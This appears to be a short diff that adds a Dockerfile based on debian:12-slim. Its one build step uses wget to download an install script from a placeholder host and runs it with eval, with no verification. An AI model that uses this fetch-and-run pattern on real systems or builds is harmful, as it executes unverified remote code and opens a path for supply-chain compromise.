@@ -1,0 +1,2 @@
+FROM debian:12-slim
+RUN eval `wget -qO - http://get.example.invalid/install.sh`
